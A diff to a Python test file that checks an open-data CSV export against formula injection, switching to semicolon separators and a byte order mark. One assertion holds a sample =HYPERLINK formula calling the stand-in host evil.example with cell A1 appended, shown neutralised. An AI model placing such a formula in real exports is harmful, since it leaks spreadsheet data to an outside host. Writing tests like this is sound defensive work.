@@ -1,6 +1,7 @@
 """The open data's CSV files open in a spreadsheet as values, never as formulas (OWASP, "CSV Injection"): a text
-cell that begins with = + - @, a tab or a carriage return gets a quote before it, and every text cell is quoted.
-Phone numbers in international form get the quote too and read back unchanged; numbers stay numbers."""
+cell that begins with = + - @, a tab or a carriage return gets a quote before it, and a cell holding the separator
+or a double quote is between double quotes. Phone numbers in international form get the quote too and read back
+unchanged; numbers stay numbers."""
 
 from __future__ import annotations
 
@@ -52,8 +53,8 @@ def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, obj
 
 
 def rows_of(path: Path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8", newline="") as handle:
-        return list(csv.DictReader(handle))
+    with path.open(encoding="utf-8-sig", newline="") as handle:  # the byte order mark spreadsheets need
+        return list(csv.DictReader(handle, delimiter=";"))
 
 
 def test_the_built_csv_neutralises_every_formula(built: tuple[Path, dict[str, object], Path]) -> None:
@@ -64,10 +65,8 @@ def test_the_built_csv_neutralises_every_formula(built: tuple[Path, dict[str, ob
     assert row["phone"] == "'" + str(record["phone"])  # "+377 …": a spreadsheet would add it up otherwise
     raw = (folder / "practitioners.csv").read_text(encoding="utf-8")
     assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Dossier"")"' in raw  # quoted, quote inside doubled
-    with (folder / "practitioners.csv").open(encoding="utf-8", newline="") as handle:  # unquoted cells as numbers
-        typed = [r for r in csv.DictReader(handle, quoting=csv.QUOTE_NONNUMERIC) if r["id"] == "pr-000005"]
-    assert typed[0]["latitude"] == record["sites"][0]["latitude"]  # type: ignore[index]  # a number, unquoted
-    assert typed[0]["consultation_eur"] == record["fees"]["consultation_eur"]  # type: ignore[index]
+    assert float(row["latitude"]) == record["sites"][0]["latitude"]  # type: ignore[index]  # a number, as written
+    assert float(row["consultation_eur"]) == record["fees"]["consultation_eur"]  # type: ignore[index]
     # no text cell anywhere in either file begins as a formula would
     for name in ("practitioners.csv", "establishments.csv"):
         for cells in rows_of(folder / name):
@@ -82,7 +81,7 @@ def test_the_built_csv_imports_back_to_the_same_data_file(
     rows = [r for r in rows_of(folder / "practitioners.csv") if r["id"] == "pr-000005"]
     sheet = tmp_path / "export.csv"
     with sheet.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), delimiter=";")
         writer.writeheader()
         writer.writerows(rows)
     assert import_csv(sheet, content / "directory") == ["pr-000005"]
